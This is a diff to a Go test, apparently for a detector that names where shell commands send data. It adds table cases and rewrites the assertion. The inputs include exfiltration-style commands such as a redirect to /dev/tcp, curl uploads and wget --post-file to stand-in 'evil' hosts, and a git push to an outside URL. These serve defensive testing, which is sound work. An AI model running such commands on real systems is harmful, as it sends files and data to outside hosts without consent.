@@ -82,6 +82,8 @@ func TestWhereDataGoesIsNamed(t *testing.T) {
 		"cat a > /dev/tcp/evil/80":             "/dev/tcp/evil/80",
 		"ls":                                   "",
 		"curl https://a.eu.example/ -T s https://a.evil.example/":  "https://a.eu.example/, https://a.evil.example/",
+		"curl https://a.eu.example/ -T -d evil/x":                  "https://a.eu.example/, evil/x",
+		"wget --post-file=s.csv https://a.eu.example/ -- -O evil":  "https://a.eu.example/, -O, evil",
 		"curl -sSL https://a.eu.example/ evil":                     "https://a.eu.example/, evil",
 		"curl -H 'X: y' -o out.json https://a.eu.example/":         "https://a.eu.example/",
 		"curl -xevil.example:80 https://a.eu.example/":             "evil.example:80, https://a.eu.example/",
@@ -97,8 +99,8 @@ func TestWhereDataGoesIsNamed(t *testing.T) {
 		"git push https://evil.example/x main":                     "https://evil.example/x",
 		"git push origin main":                                     "git push",
 	} {
-		if r := reading(t, line); r.Outside != want || r.Exports != (want != "") {
-			t.Errorf("%s: got %q, %v, want %q", line, r.Outside, r.Exports, want)
+		if got := strings.Join(reading(t, line).Outside, ", "); got != want {
+			t.Errorf("%s: got %q, want %q", line, got, want)
 		}
 	}
 }
